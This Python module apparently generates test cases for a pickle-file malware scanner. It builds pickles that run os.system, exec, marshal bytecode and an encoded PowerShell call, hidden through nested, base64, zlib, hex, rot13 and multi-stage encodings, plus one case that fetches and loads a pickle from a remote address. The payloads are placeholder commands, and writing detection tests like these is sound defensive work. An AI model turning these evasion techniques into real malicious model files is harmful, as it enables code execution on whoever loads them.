"""Malicious pickles inside pickles: as bytes, encoded, packed, in several stages, as source and as bytecode.

Never here: archives and other formats (`boxes.py`, `formats.py`). To add an encoding: a row in `CODINGS`.
"""

import base64
import binascii
import bz2
import codecs
import gzip
import lzma
import marshal
import zlib

from scan.case import ADDRESS, CODE, COMMAND, MARKER, SOURCE, Case
from scan.opcodes import call, data, framed, lit, name, of, ops, stacked, whole

EVIL = whole(of("os", "system", COMMAND))
OLD = f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode()

#: How a payload is written, and what a pickle would call to have it back.
CODINGS = {
    "base64": (base64.b64encode, lambda raw: of("base64", "b64decode", raw)),
    "urlsafe-base64": (base64.urlsafe_b64encode, lambda raw: of("base64", "urlsafe_b64decode", raw)),
    "base32": (base64.b32encode, lambda raw: of("base64", "b32decode", raw)),
    "base85": (base64.b85encode, lambda raw: of("base64", "b85decode", raw)),
    "hex": (binascii.hexlify, lambda raw: of("binascii", "unhexlify", raw)),
    "zlib": (zlib.compress, lambda raw: of("zlib", "decompress", raw)),
    "gzip": (lambda raw: gzip.compress(raw, mtime=0), lambda raw: of("gzip", "decompress", raw)),
    "bz2": (bz2.compress, lambda raw: of("bz2", "decompress", raw)),
    "xz": (lzma.compress, lambda raw: of("lzma", "decompress", raw)),
}


def cases(_seed: int) -> list[Case]:
    return [*nested(), *encoded(), *staged(), *source(), *compiled()]


def nested() -> list[Case]:
    """A pickle as the bytes of another, loaded by it or left for whoever loads next."""
    twice = whole(lit({"inner": whole(lit({"inner": EVIL}))}))
    rows = {
        "loaded.pkl": whole(of("pickle", "loads", EVIL)),
        "loaded-by-c.pkl": whole(of("_pickle", "loads", EVIL)),
        "as-an-entry.pkl": framed(lit({"weights": [1.0], "state": EVIL})),
        "as-an-entry-protocol-0.pkl": framed(lit({"weights": [1.0], "state": OLD})),
        "as-an-entry-protocol-4.pkl": framed(lit({"state": framed(of("builtins", "exec", CODE))})),
        "as-bytearray.pkl": framed(ops(data(EVIL, "array"))),
        "as-eight-byte-bytes.pkl": framed(ops(data(EVIL, "eight"))),
        "as-text.pkl": framed(lit({"state": OLD.decode()})),
        "as-latin1-text.pkl": whole(of("_codecs", "encode", EVIL.decode("latin-1"), "latin1")),
        "two-deep.pkl": twice,
        "four-deep.pkl": whole(lit([whole(lit([twice]))])),
        "behind-a-prefix.pkl": framed(lit({"blob": b"WRIT\0\0\0\1" + EVIL})),
        "as-state-of-numpy.pkl": framed(ops(name("numpy", "ndarray"), lit((EVIL,)), b"\x81")),
    }
    return [Case("nested pickle", key, raw) for key, raw in rows.items()]


def encoded() -> list[Case]:
    made = []
    for coding, (encode, back) in CODINGS.items():
        raw = encode(EVIL)
        made.append(Case("encoded pickle", f"{coding}-loaded.pkl", framed(of("pickle", "loads", back(raw)))))
        made.append(Case("encoded pickle", f"{coding}-as-an-entry.pkl", framed(lit({"weights": [0.5], "extra": raw}))))
        if coding in ("base64", "hex", "urlsafe-base64", "base32"):
            made.append(Case("encoded pickle", f"{coding}-as-text.pkl", framed(lit({"extra": raw.decode()}))))
    wrapped = base64.encodebytes(whole(ops(lit("x" * 90), b"0", of("os", "system", COMMAND))))
    made.append(Case("encoded pickle", "base64-in-lines.pkl", framed(lit({"extra": wrapped.decode()}))))
    address = "data:application/octet-stream;base64," + base64.b64encode(EVIL).decode()
    made.append(Case("encoded pickle", "data-address.pkl", framed(lit({"icon": address}))))
    return made


def staged() -> list[Case]:
    """More than one coding around it, by calls or as plain data."""
    packed = base64.b64encode(zlib.compress(EVIL))
    hexed = binascii.hexlify(base64.b64encode(EVIL))
    thrice = base64.b64encode(gzip.compress(base64.b64encode(EVIL), mtime=0))
    inner = framed(of("pickle", "loads", of("base64", "b64decode", base64.b64encode(EVIL))))
    four = base64.b64encode(bz2.compress(binascii.hexlify(zlib.compress(EVIL))))
    rows = {
        "base64-of-zlib-loaded.pkl": framed(of("pickle", "loads", of("zlib", "decompress", of("base64", "b64decode", packed)))),
        "base64-of-zlib-as-an-entry.pkl": framed(lit({"vocabulary": packed})),
        "base64-of-zlib-as-text.pkl": framed(lit({"vocabulary": packed.decode()})),
        "hex-of-base64.pkl": framed(lit({"vocabulary": hexed.decode()})),
        "base64-of-gzip-of-base64.pkl": framed(lit({"vocabulary": thrice})),
        "pickle-that-decodes-in-base64.pkl": framed(lit({"stage": base64.b64encode(inner)})),
        "four-codings.pkl": framed(lit({"stage": four})),
        "codecs-decode.pkl": framed(of("pickle", "loads", of("codecs", "decode", binascii.hexlify(EVIL), "hex"))),
        "codecs-decode-base64.pkl": framed(of("pickle", "loads", of("_codecs", "decode", base64.b64encode(EVIL), "base64"))),
        "bytes-fromhex.pkl": framed(of("pickle", "loads", call(stacked("builtins", "bytes.fromhex"), EVIL.hex()))),
        "bytes-from-numbers.pkl": framed(of("pickle", "loads", of("builtins", "bytes", list(EVIL)))),
        "bytearray-reversed.pkl": framed(of("pickle", "loads", call(stacked("builtins", "bytes.__getitem__"), EVIL[::-1], of("builtins", "slice", None, None, -1)))),
        "struct-pack.pkl": framed(of("pickle", "loads", of("struct", "pack", f"{len(EVIL)}B", *EVIL[:8]))),
        "fetched-then-loaded.pkl": framed(of("pickle", "load", of("urllib.request", "urlopen", ADDRESS))),
    }
    return [Case("several stages", key, raw) for key, raw in rows.items()]


def source() -> list[Case]:
    """Source that is decoded and run."""
    coded = base64.b64encode(SOURCE.encode())
    rot = codecs.encode(SOURCE, "rot13")
    shell = f"import subprocess;subprocess.run(['touch','{MARKER}'])"
    rows = {
        "exec-of-base64.pkl": of("builtins", "exec", of("base64", "b64decode", coded)),
        "exec-of-zlib.pkl": of("builtins", "exec", of("zlib", "decompress", zlib.compress(SOURCE.encode()))),
        "exec-of-hex.pkl": of("builtins", "exec", of("binascii", "unhexlify", SOURCE.encode().hex())),
        "exec-of-rot13.pkl": of("builtins", "exec", of("codecs", "decode", rot, "rot13")),
        "eval-that-decodes.pkl": of("builtins", "eval", f"exec(__import__('base64').b64decode({coded!r}))"),
        "compile-then-exec.pkl": of("builtins", "exec", of("builtins", "compile", of("base64", "b64decode", coded), "m", "exec")),
        "lambda-in-text.pkl": lit({"preprocess": "lambda x: __import__('os').system('" + COMMAND + "')"}),
        "source-in-base64-as-an-entry.pkl": lit({"handler": base64.b64encode(shell.encode() * 2)}),
        "powershell.pkl": of("os", "system", "powershell -EncodedCommand " + base64.b64encode("echo".encode("utf-16-le")).decode()),
    }
    return [Case("source in it", key, framed(body)) for key, body in rows.items()]


def compiled() -> list[Case]:
    code = marshal.dumps(compile(SOURCE, "model", "exec"))
    pyc = b"\xa7\r\r\n" + b"\0" * 12 + code
    rows = {
        "marshal-run.pkl": framed(call(of("types", "FunctionType", of("marshal", "loads", code), {}))),
        "marshal-as-an-entry.pkl": framed(lit({"preprocess": code})),
        "marshal-in-base64.pkl": framed(lit({"preprocess": base64.b64encode(code)})),
        "marshal-in-zlib.pkl": framed(lit({"preprocess": zlib.compress(code)})),
        "pyc-as-an-entry.pkl": framed(lit({"module": pyc})),
        "model.pyc": pyc,
    }
    return [Case("bytecode in it", key, raw) for key, raw in rows.items()]
